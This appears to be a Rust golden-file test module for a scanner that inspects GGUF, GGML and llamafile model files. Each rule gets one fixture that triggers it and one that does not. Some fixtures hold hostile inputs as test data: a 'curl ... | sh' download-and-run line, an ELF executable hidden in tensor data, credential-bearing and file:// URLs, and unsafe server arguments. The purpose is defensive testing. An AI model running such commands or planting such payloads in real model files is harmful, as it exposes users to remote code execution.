//! Every rule has a file that fires it and a twin that does not.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    clippy::panic
)]

mod build;

use std::sync::Arc;

use build::*;
use ma_core::{
    Blob, Budget, Collector, Container, Cx, Entry, EntryId, Match, Probe, Rule, ScanError,
    ScanOptions, Target,
};
use ma_testkit::{Scan, check_folder, golden::folder, run, torch};

struct All;

/// The members of a zip behind a program.
struct Tail {
    blob: Blob,
    entries: Vec<Entry>,
}

impl Container for Tail {
    fn entries(&self) -> &[Entry] {
        &self.entries
    }

    fn open(&self, id: EntryId, _: &mut Cx<'_>) -> Result<Blob, ScanError> {
        let range = self.entries[id.0].stored_at.clone().unwrap();
        Ok(self.blob.slice(range).unwrap())
    }
}

fn members(bytes: &[u8]) -> Option<Arc<dyn Container>> {
    let at = bytes.windows(4).position(|w| w == b"PK\x03\x04")?;
    let zip = torch::members(&bytes[at..])?;
    let shifted = zip.entries().iter().cloned().map(|mut e| {
        let shift = at as u64;
        e.stored_at = e.stored_at.map(|r| r.start + shift..r.end + shift);
        e
    });
    Some(Arc::new(Tail {
        blob: Blob::from_vec(bytes.to_vec()),
        entries: shifted.collect(),
    }))
}

impl Scan for All {
    fn rules(&self) -> Vec<&'static Rule> {
        let infos = ma_gguf::scanners();
        infos.iter().flat_map(|s| s.info().rules).copied().collect()
    }

    fn run(&self, name: &str, bytes: &[u8]) -> Collector {
        let artifact = run::artifact(name, bytes);
        let head = artifact.blob.head(8192).unwrap();
        let zip = members(bytes);
        let budget = Budget::default();
        let mut found = Collector::default();
        for scanner in ma_gguf::scanners() {
            let mut look = |target: Target<'_>, entries: Option<&[Entry]>| {
                let probe = Probe::new(&artifact, &head, entries);
                if scanner.probe(&probe) != Match::No {
                    let options = ScanOptions::default();
                    let mut cx = Cx::new(&artifact, &budget, options, &mut found);
                    let _ = scanner.scan(target, &mut cx).unwrap();
                }
            };
            look(Target::Bytes(&artifact), None);
            if let Some(zip) = &zip {
                look(Target::Members(&artifact, zip), Some(zip.entries()));
            }
        }
        found
    }
}

fn root() -> std::path::PathBuf {
    folder(env!("CARGO_MANIFEST_DIR"), env!("CARGO_PKG_NAME"))
}

#[test]
fn golden_files() {
    check_folder(&All, &root());
}

/// A file of a rule: rule, name, bytes.
type Case = (&'static str, &'static str, Vec<u8>);

fn two(offset: u64) -> File {
    File::new()
        .kv(kv_str("general.architecture", "llama"))
        .tensor("blk.0.attn_q.weight", &[256, 2], 17, 148)
        .tensor("blk.0.attn_k.weight", &[256, 2], 17, 148)
        .at(offset)
}

fn one(dims: &[u64], kind: u32, bytes: usize) -> Vec<u8> {
    File::new()
        .kv(kv_str("general.architecture", "llama"))
        .tensor("token_embd.weight", dims, kind, bytes)
        .build()
}

fn keyed(key: &str, value: Val) -> Vec<u8> {
    File::plain().kv(kv(key, value)).build()
}

fn tensors() -> Vec<Case> {
    let plain = File::plain().build();
    let mut program = two(256).tail(&[0; 96]).build();
    let hole = program.len() - 96 - 160;
    program[hole..hole + 8].copy_from_slice(b"\x7fELF\x02\x01\x01\0");
    vec![
        (
            "gguf-size-overflow",
            "fires-dimensions.gguf",
            one(&[1 << 40, 1 << 40], 0, 256),
        ),
        (
            "gguf-size-overflow",
            "fires-negative.gguf",
            one(&[u64::MAX, 1], 0, 256),
        ),
        (
            "gguf-size-overflow",
            "fires-keys.gguf",
            File::plain().kv_count(1 << 60).build(),
        ),
        (
            "gguf-size-overflow",
            "fires-tensors.gguf",
            File::plain().tensor_count(1 << 62).build(),
        ),
        (
            "gguf-size-overflow",
            "fires-list.gguf",
            keyed("a.b", Val::Head(8, 1 << 62)),
        ),
        ("gguf-size-overflow", "silent-plain.gguf", plain.clone()),
        (
            "gguf-beyond-file",
            "fires-keys.gguf",
            File::plain().kv_count(900).build(),
        ),
        (
            "gguf-beyond-file",
            "fires-list.gguf",
            keyed("a.b", Val::Head(4, 1 << 30)),
        ),
        ("gguf-beyond-file", "fires-cut.gguf", plain[..120].to_vec()),
        ("gguf-beyond-file", "silent-plain.gguf", plain.clone()),
        (
            "gguf-tensor-outside-file",
            "fires-cut.gguf",
            plain[..plain.len() - 64].to_vec(),
        ),
        (
            "gguf-tensor-outside-file",
            "fires-far.gguf",
            two(1 << 40).build(),
        ),
        (
            "gguf-tensor-outside-file",
            "silent-unpadded.gguf",
            File::plain().unpadded().build(),
        ),
        ("gguf-tensor-overlap", "fires-inside.gguf", two(0).build()),
        (
            "gguf-tensor-overlap",
            "silent-behind.gguf",
            two(160).build(),
        ),
        (
            "gguf-tensor-layout",
            "fires-hole.gguf",
            two(256).tail(&[0; 96]).build(),
        ),
        ("gguf-tensor-layout", "fires-program.gguf", program),
        (
            "gguf-tensor-layout",
            "fires-misaligned.gguf",
            two(161).tail(&[0; 31]).build(),
        ),
        ("gguf-tensor-layout", "silent-behind.gguf", two(160).build()),
    ]
}

fn shapes() -> Vec<Case> {
    vec![
        ("gguf-tensor-shape", "fires-block.gguf", one(&[31], 8, 34)),
        (
            "gguf-tensor-shape",
            "fires-five.gguf",
            one(&[2, 2, 2, 2, 2], 0, 128),
        ),
        (
            "gguf-tensor-shape",
            "silent-four.gguf",
            one(&[2, 2, 2, 4], 0, 128),
        ),
        ("gguf-tensor-type", "fires-removed.gguf", one(&[32], 4, 32)),
        ("gguf-tensor-type", "fires-fork.gguf", one(&[256], 139, 160)),
        (
            "gguf-tensor-type",
            "fires-negative.gguf",
            one(&[256], u32::MAX, 160),
        ),
        ("gguf-tensor-type", "silent-mxfp4.gguf", one(&[64], 39, 34)),
        (
            "gguf-duplicate-tensor",
            "fires-twice.gguf",
            File::plain().tensor("output.weight", &[8], 0, 32).build(),
        ),
        (
            "gguf-duplicate-tensor",
            "silent-other.gguf",
            File::plain().tensor("output.bias", &[8], 0, 32).build(),
        ),
    ]
}

fn rests() -> Vec<Case> {
    let plain = File::plain().build();
    vec![
        (
            "gguf-trailing-data",
            "fires-zip.gguf",
            File::plain()
                .tail(&torch::stored_zip(&[("x", b"x")]))
                .build(),
        ),
        (
            "gguf-trailing-data",
            "fires-program.gguf",
            File::plain().tail(b"\x7fELF\x02\x01\x01\0rest").build(),
        ),
        (
            "gguf-trailing-data",
            "fires-zeros.gguf",
            File::plain().tail(&[0; 64]).build(),
        ),
        ("gguf-trailing-data", "silent-end.gguf", plain.clone()),
        (
            "gguf-nonzero-padding",
            "fires-text.gguf",
            File::plain().pad(b'x').build(),
        ),
        ("gguf-nonzero-padding", "silent-zeros.gguf", plain.clone()),
        (
            "gguf-incomplete-content",
            "fires-empty.gguf",
            File::new().build(),
        ),
        ("gguf-incomplete-content", "silent-plain.gguf", plain),
    ]
}

fn words() -> Kv {
    kv("tokenizer.ggml.tokens", strs(&["<s>", "</s>", "a"]))
}

fn token(n: u64) -> Vec<u8> {
    File::plain()
        .kv(words())
        .kv(kv_u32("tokenizer.ggml.eos_token_id", n))
        .build()
}

fn template(text: &str) -> File {
    File::plain().kv(kv_str("tokenizer.chat_template", text))
}

fn part(no: u64) -> Vec<u8> {
    File::plain()
        .kv(kv("split.no", Val::Num(2, no, 2)))
        .kv(kv("split.count", Val::Num(2, 3, 2)))
        .build()
}

fn keys() -> Vec<Case> {
    vec![
        (
            "gguf-alignment",
            "fires-zero.gguf",
            keyed("general.alignment", u32v(0)),
        ),
        (
            "gguf-alignment",
            "fires-48.gguf",
            keyed("general.alignment", u32v(48)),
        ),
        (
            "gguf-alignment",
            "fires-u64.gguf",
            keyed("general.alignment", u64v(32)),
        ),
        (
            "gguf-alignment",
            "silent-64.gguf",
            keyed("general.alignment", u32v(64)),
        ),
        (
            "gguf-duplicate-key",
            "fires-template.gguf",
            template("{{ messages[0].content }}")
                .kv(kv_str("tokenizer.chat_template", "{{ 'other' }}"))
                .build(),
        ),
        (
            "gguf-duplicate-key",
            "silent-once.gguf",
            template("{{ messages[0].content }}").build(),
        ),
        (
            "gguf-name",
            "fires-control.gguf",
            keyed("general.\u{1b}[2Jname", u32v(1)),
        ),
        (
            "gguf-name",
            "fires-long-tensor.gguf",
            File::plain().tensor(&"x".repeat(64), &[8], 0, 32).build(),
        ),
        (
            "gguf-name",
            "silent-63.gguf",
            File::plain().tensor(&"x".repeat(63), &[8], 0, 32).build(),
        ),
        (
            "gguf-value-encoding",
            "fires-nested.gguf",
            keyed("a.b", arr(9, [arr(4, [u32v(1)])])),
        ),
        (
            "gguf-value-encoding",
            "fires-type.gguf",
            keyed("a.b", Val::Num(13, 1, 4)),
        ),
        (
            "gguf-value-encoding",
            "fires-bool.gguf",
            keyed("a.b", boolv(7)),
        ),
        (
            "gguf-value-encoding",
            "silent-list.gguf",
            keyed("a.b", arr(4, [u32v(1)])),
        ),
    ]
}

fn key_values() -> Vec<Case> {
    vec![
        (
            "gguf-key-type",
            "fires-tokens.gguf",
            keyed("tokenizer.ggml.tokens", arr(4, [u32v(1)])),
        ),
        (
            "gguf-key-type",
            "fires-template.gguf",
            keyed("tokenizer.chat_template", strs(&["{{ messages }}"])),
        ),
        (
            "gguf-key-type",
            "silent-text.gguf",
            template("{{ messages }}").build(),
        ),
        ("gguf-tokenizer", "fires-id.gguf", token(3)),
        ("gguf-tokenizer", "silent-id.gguf", token(2)),
        (
            "gguf-tokenizer",
            "fires-scores.gguf",
            File::plain()
                .kv(words())
                .kv(kv("tokenizer.ggml.scores", arr(6, [f32v(0.0)])))
                .build(),
        ),
        (
            "gguf-metadata-url",
            "fires-password.gguf",
            keyed("general.url", strv("https://user:secret@example.com/m")),
        ),
        (
            "gguf-metadata-url",
            "fires-file.gguf",
            keyed("general.url", strv("file:///etc/hostname")),
        ),
        (
            "gguf-metadata-url",
            "fires-address.gguf",
            keyed("general.source.url", strv("http://127.0.0.1:8000/m")),
        ),
        (
            "gguf-metadata-url",
            "silent-https.gguf",
            keyed("general.url", strv("https://example.com/m")),
        ),
    ]
}

fn wholes() -> Vec<Case> {
    vec![
        ("gguf-split", "fires-number-00002-of-00003.gguf", part(0)),
        ("gguf-split", "silent-number-00002-of-00003.gguf", part(1)),
        (
            "gguf-version",
            "fires-1.gguf",
            File::plain().version(1).build(),
        ),
        (
            "gguf-version",
            "fires-9.gguf",
            File::plain().version(9).build(),
        ),
        (
            "gguf-version",
            "silent-2.gguf",
            File::plain().version(2).build(),
        ),
        (
            "gguf-version",
            "silent-big-endian.gguf",
            File::plain().big_endian(true).build(),
        ),
        ("gguf-version", "silent-plain.gguf", File::plain().build()),
    ]
}

fn old() -> Vec<Case> {
    let big = llama(b"tjgg", Some(3)).tensor("w", &[u32::MAX; 3], 0, 8, true);
    let cut = |mut old: Old| {
        old.out.truncate(old.out.len() - 8);
        old.out
    };
    let session = Old::new(b"nsgg").u32s(&[9, 2, 1, 2]).zeros(64);
    vec![
        (
            "ggml-legacy-format",
            "fires-ggjt.bin",
            llama(b"tjgg", Some(3)).out,
        ),
        ("ggml-legacy-format", "fires-whisper.bin", whisper().out),
        (
            "ggml-legacy-format",
            "fires-unknown.bin",
            Old::new(b"lmgg").u32s(&[7; 9]).out,
        ),
        ("ggml-legacy-format", "fires-session.bin", session.out),
        (
            "ggml-legacy-format",
            "silent-gguf.bin",
            File::plain().build(),
        ),
        (
            "ggml-legacy-malformed",
            "fires-cut.bin",
            cut(llama(b"tjgg", Some(3))),
        ),
        ("ggml-legacy-malformed", "fires-overflow.bin", big.out),
        (
            "ggml-legacy-malformed",
            "silent-ggjt.bin",
            llama(b"tjgg", Some(3)).out,
        ),
    ]
}

fn programs() -> Vec<Case> {
    let model = File::plain().build();
    let model = ("tiny.gguf", &model[..]);
    let with = |args: &str| llamafile(&[(".args", args.as_bytes()), model]);
    let elf = |members: &[(&str, &[u8])]| {
        let mut file = b"\x7fELF\x02\x01\x01\0".to_vec();
        file.resize(64, 0);
        [file, torch::stored_zip(members)].concat()
    };
    vec![
        (
            "llamafile-executable",
            "fires-ape.llamafile",
            with("-m\ntiny.gguf\n"),
        ),
        (
            "llamafile-executable",
            "fires-ape.gguf",
            with("-m\ntiny.gguf\n"),
        ),
        ("llamafile-executable", "fires-elf.bin", elf(&[model])),
        (
            "llamafile-executable",
            "silent-no-model.bin",
            elf(&[("a.txt", b"x")]),
        ),
        (
            "llamafile-arguments",
            "fires-network.llamafile",
            with("-mu\nhttps://example.com/x.gguf\n--host\n0.0.0.0\n"),
        ),
        (
            "llamafile-arguments",
            "fires-file.llamafile",
            with("-m\ntiny.gguf\n-f\n/etc/hostname\n--unsecure\n"),
        ),
        (
            "llamafile-arguments",
            "silent-usual.llamafile",
            with("-m\n/zip/tiny.gguf\n-ngl\n999\n...\n"),
        ),
        (
            "llamafile-foreign-member",
            "fires-library.llamafile",
            llamafile(&[model, ("usr/lib/x.so", b"x")]),
        ),
        (
            "llamafile-foreign-member",
            "silent-ggml.llamafile",
            llamafile(&[model, ("ggml-cuda.so", b"x")]),
        ),
        (
            "llamafile-shell-download",
            "fires-curl.llamafile",
            ape("curl -s http://127.0.0.1/pwned | sh\n", &[model]),
        ),
        (
            "llamafile-shell-download",
            "silent-exec.llamafile",
            with("-m\ntiny.gguf\n"),
        ),
    ]
}

/// Writes the files; run by hand after a change of the builders:
/// `cargo test -p ma-gguf --test golden -- --ignored`
#[test]
#[ignore = "writes into testdata"]
fn write_golden_files() {
    let gguf = [tensors(), shapes(), rests(), keys(), key_values(), wholes()].concat();
    let cases = [gguf, old(), programs()].concat();
    for (rule, name, bytes) in cases {
        std::fs::create_dir_all(root().join(rule)).unwrap();
        std::fs::write(root().join(rule).join(name), bytes).unwrap();
    }
}
